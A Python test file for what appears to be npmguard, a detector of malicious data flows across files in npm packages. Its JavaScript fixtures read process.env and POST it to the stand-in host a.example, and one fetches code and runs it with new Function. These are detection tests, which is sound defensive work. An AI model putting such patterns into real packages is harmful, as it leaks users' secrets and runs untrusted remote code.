from __future__ import annotations

from itertools import permutations

import pytest

from npmguard.detect.flows import join_flows
from npmguard.detect.match import resolve_local
from npmguard.javascript.flow_words import Sink, Source, flow_name
from npmguard.model import Fact, FactKind
from tests.javascript_facts import read
from tests.javascript_flows import FLOWS

WANTED = frozenset(flow_name(source, sink) for source in Source for sink in Sink)
COLLECT = "exports.collect = () => JSON.stringify(process.env);"
SEND = "exports.send = (data) => fetch('https://a.example', {method: 'POST', body: data});"


def joined(
    *sources: str, paths: tuple[str, ...] = ("index.js", "a.js", "b.js", "lib/c.js")
) -> list[tuple[str, Fact]]:
    files = {path: read(code, path, FLOWS) for path, code in zip(paths, sources, strict=False)}
    found = join_flows(files, WANTED, resolve_local)
    assert all(fact.kind is FactKind.FLOW for facts in found.values() for fact in facts)
    return [(path, fact) for path in sorted(found) for fact in found[path]]


def names(
    *sources: str, paths: tuple[str, ...] = ("index.js", "a.js", "b.js", "lib/c.js")
) -> set[tuple[str, str]]:
    return {(path, fact.name) for path, fact in joined(*sources, paths=paths)}


def test_a_flow_stands_where_its_sink_is_and_tells_where_its_source_is() -> None:
    ((path, fact),) = joined("require('./b').send(require('./a').collect())", COLLECT, SEND)
    assert (path, fact.name, fact.value) == ("b.js", "environment>network", None)
    assert fact.args == ("fetch", "a.js:1:40", "https://a.example", "body")
    assert SEND[fact.start : fact.end].startswith("fetch('https://a.example'")
    assert (fact.line, fact.column, fact.function) == (1, 26, 1)


@pytest.mark.parametrize(
    ("main", "collect", "send"),
    [
        ("require('./b').send(require('./a').collect())", COLLECT, SEND),
        ("const {collect} = require('./a'), {send} = require('./b'); send(collect())", COLLECT, SEND),
        ("import {collect} from './a'; import {send as s} from './b'; s(collect())", COLLECT, SEND),
        ("import * as a from './a'; import * as b from './b'; b.send(a.collect())", COLLECT, SEND),
        (
            "const b = require('./b'), all = require('./a').collect(); setTimeout(() => b.send({all}), 9)",
            COLLECT,
            SEND,
        ),
        (
            "require('./b')(require('./a')())",
            "module.exports = () => process.env",
            "module.exports = (d) => fetch(u, {body: d})",
        ),
        (
            "import c from './a'; import s from './b'; s(c())",
            "export default () => process.env",
            "export default function f(d) { fetch(u + d) }",
        ),
        (
            "import {all} from './a'; import {send} from './b'; send(all)",
            "export const all = {...process.env};",
            "export function send(d) { fetch(u + d) }",
        ),
        (
            "import {c} from './a'; import {s} from './b'; s(c())",
            "const k = () => process.env; export {k as c}",
            "const f = (d) => fetch(u + d); export {f as s}",
        ),
        (
            "const {Box} = require('./b'); const b = new Box(); b.send(require('./a').collect())",
            COLLECT,
            "class Box { send(d) { fetch(u + d); } } module.exports = {Box}",
        ),
        (
            "const {Box} = require('./b'); new Box(require('./a').collect())",
            COLLECT,
            "exports.Box = class { constructor(d) { fetch(u + d); } }",
        ),
        (
            "const {send} = require('./b'); require('./a').collect().then((d) => send(d))",
            "exports.collect = async () => process.env",
            SEND,
        ),
        (
            "const {send} = require('./b'); require('./a').collect().then(send)",
            "exports.collect = async () => process.env",
            SEND,
        ),
    ],
)
def test_a_third_file_brings_both_ends_together(main: str, collect: str, send: str) -> None:
    assert names(main, collect, send) == {("b.js", "environment>network")}


@pytest.mark.parametrize(
    "between",
    [
        "module.exports = require('./b');",
        "exports.send = require('./b').send;",
        "export * from './b';",
        "export {send} from './b';",
        "const b = require('./b'); exports.send = (x) => b.send(x);",
        "const b_1 = require('./b'); Object.defineProperty(exports, 'send', {get: () => b_1.send});",
    ],
)
def test_what_is_handed_on_by_another_file(between: str) -> None:
    assert names("require('./a').send(process.env)", between, SEND) == {("b.js", "environment>network")}


def test_a_source_in_the_file_that_is_called() -> None:
    main = "const {collect} = require('./a'); fetch(u, {body: collect()})"
    assert names(main, COLLECT) == {("index.js", "environment>network")}


def test_a_sink_that_is_called_by_the_file_of_the_source() -> None:
    assert names("require('./lib/c').send(process.env)", "", "", SEND) == {("lib/c.js", "environment>network")}


def test_a_download_that_another_file_evaluates() -> None:
    main = "fetch(u).then((r) => r.text()).then((t) => require('./a').run(t))"
    assert names(main, "exports.run = (code) => new Function(code)()") == {("a.js", "network>evaluate")}


@pytest.mark.parametrize(
    ("main", "collect", "send"),
    [
        ("require('./b').send('hello'); require('./a').collect()", COLLECT, SEND),
        ("require('./b').send(require('./a').other())", COLLECT + "exports.other = () => 1", SEND),
        (
            "require('./b').other(require('./a').collect())",
            COLLECT,
            SEND + "exports.other = (d) => console.log(d)",
        ),
        ("require('elsewhere').send(require('./a').collect())", COLLECT, SEND),
        ("require('./b').send(url, require('./a').collect())", COLLECT, SEND),
    ],
)
def test_files_that_use_each_other_otherwise(main: str, collect: str, send: str) -> None:
    assert names(main, collect, send) == set()


def test_files_that_require_each_other_in_a_circle() -> None:
    one = "const a = require('./a'); exports.f = (x) => a.f(x); fetch(a.f(process.env));"
    other = "const i = require('./index'); exports.f = (x) => i.f(x);"
    assert names(one, other) == set()
    assert names("module.exports = require('./a')", "module.exports = require('./index')") == set()


def test_the_order_of_the_files_does_not_matter() -> None:
    sources = {"index.js": "require('./b').send(require('./a').collect())", "a.js": COLLECT, "b.js": SEND}
    results = {
        str(join_flows({path: read(sources[path], path, FLOWS) for path in order}, WANTED, resolve_local))
        for order in permutations(sources)
    }
    assert len(results) == 1
